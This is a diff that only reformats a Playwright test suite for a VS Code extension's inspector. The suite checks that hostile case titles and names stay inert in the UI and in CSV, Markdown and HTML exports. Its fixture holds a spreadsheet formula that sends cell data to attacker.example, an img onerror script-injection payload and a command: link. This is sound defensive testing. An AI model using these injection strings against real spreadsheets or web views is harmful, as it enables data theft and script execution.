@@ -14,7 +14,9 @@ describe("hostile titles and names in the inspector in VS Code", function () {
 
   const home = mkdtempSync(path.join(os.tmpdir(), "case-access-home-"));
   after(() => rmSync(home, { recursive: true, force: true }));
-  const vscode = useVSCode({ env: { HOME: home, CASE_ACCESS_SANDBOX: "open", CASE_ACCESS_SANDBOX_OPTIONS: '{"argus":true}' } });
+  const vscode = useVSCode({
+    env: { HOME: home, CASE_ACCESS_SANDBOX: "open", CASE_ACCESS_SANDBOX_OPTIONS: '{"argus":true}' },
+  });
   const opened: string[] = [];
   let view: InspectorView;
   let shown: string[][];
@@ -34,10 +36,18 @@ describe("hostile titles and names in the inspector in VS Code", function () {
     const { workbench } = vscode();
     await workbench.page.getByRole("tab", { name: /^Access of Bobby <b>Tables<\/b>/ }).waitFor();
     const title = view.frame.getByRole("rowheader", { name: /^9016 =HYPERLINK/ });
-    assert.equal(await title.innerText(), '9016 =HYPERLINK("https://attacker.example/?q="&A1,"Invoice") <img src=x onerror=alert(1)> **urgent** [open](command:workbench.action.quit) txt.exe');
+    assert.equal(
+      await title.innerText(),
+      '9016 =HYPERLINK("https://attacker.example/?q="&A1,"Invoice") <img src=x onerror=alert(1)> **urgent** [open](command:workbench.action.quit) txt.exe',
+    );
     await view.cell({ case: "9016" }, "owner").click();
-    await view.reasons.getByText(/^Bobby <b>Tables<\/b> .* on 9016 =HYPERLINK\(.*<img src=x onerror=alert\(1\)>/).waitFor();
-    assert.match(await view.frame.getByRole("combobox", { name: "Choose a person or group" }).inputValue(), /^Bobby <b>Tables<\/b>/);
+    await view.reasons
+      .getByText(/^Bobby <b>Tables<\/b> .* on 9016 =HYPERLINK\(.*<img src=x onerror=alert\(1\)>/)
+      .waitFor();
+    assert.match(
+      await view.frame.getByRole("combobox", { name: "Choose a person or group" }).inputValue(),
+      /^Bobby <b>Tables<\/b>/,
+    );
     assert.equal(await view.frame.locator(strange).count(), 0);
     assert.equal(await workbench.page.locator('img[src="x"]').count(), 0);
     await view.press("Escape");
@@ -57,15 +67,34 @@ describe("hostile titles and names in the inspector in VS Code", function () {
     const { about, rows } = readCsv(await exported("CSV"));
     assert.deepEqual(unremarked(rows), shown);
     assertAbout(about);
-    assert.ok([...about, ...rows].flat().every((cell) => !/^[=+\-@]/.test(cell)), "no cell is a formula");
+    assert.ok(
+      [...about, ...rows].flat().every((cell) => !/^[=+\-@]/.test(cell)),
+      "no cell is a formula",
+    );
   });
 
   it("are no markup in Markdown, which says the same as the matrix", async () => {
     const text = await exported("Markdown");
     const lines = text.split("\n");
-    const cells = lines.filter((line) => line.startsWith("|")).map((line) => line.split(/(?<!\\)\|/).slice(1, -1).map(plain));
+    const cells = lines
+      .filter((line) => line.startsWith("|"))
+      .map((line) =>
+        line
+          .split(/(?<!\\)\|/)
+          .slice(1, -1)
+          .map(plain),
+      );
     assert.deepEqual(unremarked([cells[0]!, ...cells.slice(2)]), shown);
-    assertAbout(lines.filter((line) => line.startsWith("- ")).map((line) => line.slice(2).split(/(?<!\\): (.*)/).map(plain)));
+    assertAbout(
+      lines
+        .filter((line) => line.startsWith("- "))
+        .map((line) =>
+          line
+            .slice(2)
+            .split(/(?<!\\): (.*)/)
+            .map(plain),
+        ),
+    );
     assert.doesNotMatch(text, /<|(?<!\\)\[|(?<!\\)\]\(/);
   });
 
@@ -78,12 +107,18 @@ describe("hostile titles and names in the inspector in VS Code", function () {
     page.on("dialog", (dialog) => opened.push(dialog.message()));
     const address = pathToFileURL(file).href;
     await page.goto(address);
-    const read = await page.evaluate((elements) => ({
-      cells: [...document.querySelectorAll("tr")].map((row) => [...row.cells].map((cell) => cell.textContent)),
-      about: [...document.querySelectorAll("dt")].map((name) => [name.textContent, name.nextElementSibling!.textContent]),
-      policy: document.querySelector("meta[http-equiv=Content-Security-Policy]")!.getAttribute("content"),
-      strange: document.querySelectorAll(elements).length,
-    }), strange);
+    const read = await page.evaluate(
+      (elements) => ({
+        cells: [...document.querySelectorAll("tr")].map((row) => [...row.cells].map((cell) => cell.textContent)),
+        about: [...document.querySelectorAll("dt")].map((name) => [
+          name.textContent,
+          name.nextElementSibling!.textContent,
+        ]),
+        policy: document.querySelector("meta[http-equiv=Content-Security-Policy]")!.getAttribute("content"),
+        strange: document.querySelectorAll(elements).length,
+      }),
+      strange,
+    );
     await page.close();
     assert.deepEqual(unremarked(read.cells), shown);
     assertAbout(read.about);
@@ -121,10 +156,19 @@ function assertAbout(about: readonly (readonly string[])[]): void {
   assert.match(said.Assumes ?? "", /^unknown means that/);
 }
 
-/** What a spreadsheet reads: fields by RFC 4180. The apostrophe in front of what could be a formula belongs to the cell. */
+/**
+ * What a spreadsheet reads: fields by RFC 4180. The apostrophe in front of what could be a formula belongs to the cell.
+ */
 function readCsv(text: string): { about: string[][]; rows: string[][] } {
   assert.equal(text[0], "\ufeff");
-  const lines = text.slice(1).split("\r\n").map((line) => [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? ""));
+  const lines = text
+    .slice(1)
+    .split("\r\n")
+    .map((line) =>
+      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(
+        ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "",
+      ),
+    );
   const apart = lines.findIndex((cells) => cells.length === 1 && cells[0] === "");
   return { about: lines.slice(1, apart), rows: lines.slice(apart + 1, -1) };
 }
